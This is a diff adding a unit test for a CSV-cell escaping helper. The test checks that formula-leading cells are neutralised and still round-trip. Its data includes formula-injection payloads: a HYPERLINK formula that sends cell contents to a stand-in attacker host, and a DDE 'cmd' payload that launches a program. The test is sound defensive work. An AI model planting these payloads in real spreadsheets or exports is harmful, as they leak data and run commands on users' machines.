@@ -201,6 +201,16 @@ describe('csv cells', () => {
     const line = cells.map(csvCell).join(',');
     expect(parseCsv(`${line}\r\n`)).toEqual([cells]);
   });
+
+  it('defuses names a spreadsheet would run as formulas, and still parses them back', () => {
+    const cells = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\tTAB', "'=already quoted", "it's fine", '-'];
+    const line = cells.map(csvCell).join(',');
+    // As a spreadsheet reads each cell (inside its quotes, if any): none starts a formula any more.
+    const raw = cells.map(csvCell).map((c) => c.replace(/^"/, ''));
+    expect(raw.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    expect(csvCell('=1+1')).toBe("'=1+1");
+    expect(parseCsv(`${line}\r\n`)).toEqual([cells]);
+  });
 });
 
 describe('decimation', () => {
